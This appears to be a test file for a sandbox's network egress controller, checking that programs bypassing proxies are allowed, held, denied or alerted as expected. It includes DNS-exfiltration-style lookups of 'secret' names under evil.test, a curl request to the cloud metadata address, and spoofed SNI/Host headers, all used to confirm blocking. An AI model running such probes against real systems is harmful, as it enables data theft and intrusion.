import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import path from "node:path";
import { insideWorld, type InsideWorld } from "../support/insideWorld.ts";

const goClient = `package main
import ("fmt"; "io"; "net/http"; "os")
func main() {
	client := http.Client{Transport: &http.Transport{}}
	answer, err := client.Get(os.Args[1])
	if err != nil { fmt.Fprintln(os.Stderr, err); os.Exit(1) }
	body, _ := io.ReadAll(answer.Body)
	fmt.Print(answer.StatusCode, " ", string(body))
}
`;

const request = (host: string): string =>
  `GET / HTTP/1.1\\r\\nHost: ${host}\\r\\nConnection: close\\r\\n\\r\\n`;

const udp = (family: 4 | 6, host: string): string =>
  `node -e 'const s=require("dgram").createSocket("udp${family}"); s.on("error",e=>{console.log(e.code);s.close()}); s.connect(4433,"${host}",e=>s.send("hello"))'`;

describe("the transparent path: programs that take no proxy", function () {
  this.timeout(60_000);
  const tools = mkdtempSync("/tmp/holdfast-transparent-");
  let inside: InsideWorld;
  const resolved: string[] = [];

  before(() => {
    execFileSync("cc", [
      "-O1",
      "-o",
      path.join(tools, "client"),
      path.join(import.meta.dirname, "../support/plainClient.c"),
    ]);
  });
  after(() => rmSync(tools, { recursive: true, force: true }));

  beforeEach(async () => {
    resolved.length = 0;
    inside = await insideWorld({
      handler: (incoming, response) => response.end(`hello ${incoming.method ?? ""}\n`),
      resolve: (host) => {
        resolved.push(host);
        return Promise.resolve([{ address: "93.184.216.34", family: 4 }]);
      },
    });
    execFileSync("cp", ["-a", `${tools}/.`, inside.fixture.shadow]);
  });
  afterEach(async () => await inside[Symbol.asyncDispose]());

  const check = async (command: string, stdout: string | RegExp): Promise<void> => {
    const ran = await inside.run(command, { proxies: false });
    if (typeof stdout === "string") assert.equal(ran.stdout, stdout, ran.stderr);
    else assert.match(ran.stdout, stdout, ran.stderr);
  };
  const verdicts = (): readonly string[] =>
    inside.world.host.of("verdict").map(({ verdict, rule }) => `${verdict} ${rule}`);
  const alerts = (): readonly string[] => inside.world.host.of("alert").map(({ code }) => code);
  const asked = (): readonly string[] =>
    inside.world.host.of("request.started").map(({ host, port }) => `${host}:${port}`);

  const allowed: readonly [who: string, command: string, stdout: string | RegExp, asked: string][] =
    [
      [
        "curl over TLS",
        "curl -sS --noproxy '*' https://curl.test/",
        "hello GET\n",
        "curl.test:443",
      ],
      ["curl over TLS and IPv6", "curl -6 -sS https://six.test/", "hello GET\n", "six.test:443"],
      ["curl without TLS", "curl -sS http://plain.test/", "hello GET\n", "plain.test:80"],
      ["curl to any port", "curl -sS http://plain.test:8081/", "hello GET\n", "plain.test:8081"],
      [
        "Python without proxies",
        `python3 -c 'import urllib.request as r; print(r.build_opener(r.ProxyHandler({})).open("https://py.test/").read().decode(), end="")'`,
        "hello GET\n",
        "py.test:443",
      ],
      [
        "Node's net",
        `node -e 'require("net").connect(80,"node.test",function(){this.write("${request("node.test")}")}).pipe(process.stdout)'`,
        /200 OK[^]*hello GET\n/,
        "node.test:80",
      ],
      [
        "Node's tls",
        `node -e 'require("tls").connect({port:443,host:"tls.test",servername:"tls.test"},function(){this.write("${request("tls.test")}")}).pipe(process.stdout)'`,
        /200 OK[^]*hello GET\n/,
        "tls.test:443",
      ],
      [
        "a C program",
        `printf '${request("c.test")}' | ./client c.test 80`,
        /hello GET\n/,
        "c.test:80",
      ],
    ];
  const reaches = ([who, command, stdout, place]: (typeof allowed)[number]): void => {
    it(`${who} reaches an allowed host`, async () => {
      await check(command, stdout);
      assert.deepEqual(asked(), [place]);
      assert.deepEqual(verdicts(), ["allow test.reads"]);
    });
  };
  for (const one of allowed) reaches(one);

  describe("in Go", () => {
    before(function () {
      this.timeout(180_000);
      writeFileSync(path.join(tools, "client.go"), goClient);
      execFileSync("go", ["build", "-o", path.join(tools, "goclient"), "client.go"], {
        cwd: tools,
        env: { ...process.env, CGO_ENABLED: "0", GO111MODULE: "off" },
      });
    });
    reaches(["a program", "./goclient https://go.test/", "200 hello GET\n", "go.test:443"]);
    reaches(["any port", "./goclient http://go.test:9000/", "200 hello GET\n", "go.test:9000"]);
  });

  it("a call that changes something is held, and goes when it is approved", async () => {
    const ran = inside.run("curl -sS -d x=1 https://held.test/", { proxies: false });
    const { host } = inside.world;
    await host.until(() => host.holds.length === 1);
    assert.match(JSON.stringify(host.holds[0]?.request.payload), /POST https:\/\/held\.test\//);
    host.holds[0]?.decide({ decision: "approve", scope: "call" });
    assert.equal((await ran).stdout, "hello POST\n");
  });

  it("a denied host answers with the reason", async () => {
    await check("curl -sS https://x.denied.test/", /this host is denied/);
    assert.deepEqual(verdicts(), ["deny test.denied"]);
  });

  it("a protocol that nobody reads is held, and closed when it is denied", async () => {
    const ran = inside.run("./client db.test 5432 < /dev/null; echo $?", { proxies: false });
    const { host } = inside.world;
    await host.until(() => host.holds.length === 1);
    host.holds[0]?.decide({ decision: "deny", scope: "call" });
    assert.equal((await ran).stdout, "0\n");
    assert.deepEqual(asked(), ["db.test:5432"]);
    assert.equal(host.of("request.finished").length, 1);
  });

  it("datagrams are refused at once, with a line in the journal", async () => {
    await check(
      `${udp(4, "quic.test")}; ${udp(6, "quic.test")}; ${udp(4, "1.1.1.1")}`,
      "ECONNREFUSED\n".repeat(3),
    );
    await inside.world.host.until(() => inside.world.host.of("request.finished").length >= 2);
    assert.deepEqual(asked().toSorted(), ["1.1.1.1:4433", "quic.test:4433", "quic.test:4433"]);
    assert.ok(verdicts().every((said) => said === "deny floor.datagram"));
  });

  it("an address instead of a name is judged as that address", async () => {
    await check(
      "curl -sS http://10.1.2.3/; curl -sS http://169.254.169.254/latest/meta-data/",
      /private address[^]*metadata address/,
    );
    assert.deepEqual(verdicts(), ["deny floor.address", "deny floor.address"]);
  });

  it("a made-up address leads nowhere by itself", async () => {
    await check(
      "curl -s -m 3 http://198.18.0.1:9/ || echo refused; curl -sS http://198.18.77.7/; curl -sS http://198.18.0.1/ -m 3 -s || echo refused",
      /^refused\n[^]*198\.18\.77\.7[^]*refused\n$/,
    );
    assert.deepEqual(verdicts(), ["deny floor.address"]);
  });

  it("another name in TLS or in Host than the one that was looked up is refused and told", async () => {
    await check(
      "curl -sS -m 5 --connect-to a.test:443:b.test:443 https://a.test/ || echo refused",
      "refused\n",
    );
    await check("curl -sS -m 5 -H 'Host: a.test' http://b.test/", /Host is not the host/);
    assert.deepEqual(alerts(), ["sni-mismatch", "host-mismatch"]);
    assert.deepEqual(resolved, []);
  });

  it("loopback stays the sandbox's own, also on a port that leads out elsewhere", async () => {
    const server = `node -e 'require("http").createServer((q,s)=>s.end("mine\\n")).listen(8081,"0.0.0.0")' & sleep 1`;
    await check(
      `${server}; curl -sS http://localhost:8081/; curl -sS http://out.test:8081/; kill %1`,
      "mine\nhello GET\n",
    );
  });

  describe("names", () => {
    it("get made-up addresses, and nobody looks them up", async () => {
      await check(
        "getent ahostsv4 a.test | cut -d' ' -f1 | uniq; getent ahostsv6 a.test | cut -d' ' -f1 | uniq",
        /^198\.1[89]\.\d+\.\d+\nfd48:6f6c:6466::\w+:?\w*\n$/,
      );
      assert.deepEqual(resolved, []);
    });

    it("of every server that is asked", async () => {
      await check(
        `node -e 'const {Resolver}=require("dns").promises; (async()=>{for (const server of ["8.8.8.8","[2001:4860:4860::8888]"]) {const r=new Resolver({timeout:2000,tries:1}); r.setServers([server]); console.log((await r.resolve4("s.test"))[0].slice(0,6), await r.resolveTxt("s.test").catch(e=>e.code))}})()'`,
        "198.18 ENODATA\n198.18 ENODATA\n",
      );
    });

    it("over TCP too", async () => {
      await check(
        `python3 -c 'import socket,struct; q=bytes.fromhex("123401000001000000000000")+b"\\x01t\\x04test\\x00\\x00\\x01\\x00\\x01"; s=socket.create_connection(("127.0.0.1",53)); s.sendall(struct.pack(">H",len(q))+q); a=s.recv(600); print(socket.inet_ntoa(a[-4:])[:6])'`,
        "198.18\n",
      );
    });

    it("localhost is loopback, backward questions have no answer", async () => {
      await check(
        "getent ahostsv4 x.localhost | cut -d' ' -f1 | uniq; getent hosts 198.18.1.0 || echo none",
        "127.0.0.1\nnone\n",
      );
    });

    it("that carry a message are told, and none leaves", async () => {
      const label = "a".repeat(60);
      await check(
        `getent hosts ${label}.${label}.evil.test > x; for i in $(seq 60); do getent hosts secret$i.evil.test; done | wc -l`,
        "60\n",
      );
      await inside.world.host.until(() => alerts().length === 2);
      const [first, second] = inside.world.host.of("alert").map(({ message }) => message);
      assert.match(first ?? "", /^a name of \d+ characters: a{60}\.a{60}\.evil\.test/);
      assert.match(second ?? "", /^50 names under evil\.test: .*nothing left the sandbox/);
      assert.deepEqual(resolved, []);
    });

    it("are bounded", async () => {
      await check(
        `node -e 'const {Resolver}=require("dns").promises; const r=new Resolver({timeout:5000}); (async()=>{let last; for (let i=0;i<17000;i+=200) {last=await Promise.allSettled([...Array(200).keys()].map(k=>r.resolve4("n"+(i+k)+".test")))} console.log(last.at(-1).reason.code)})()'`,
        "ESERVFAIL\n",
      );
      await inside.world.host.until(() =>
        inside.world.host.of("alert").some(({ message }) => message.startsWith("more names")),
      );
    });
  });
});
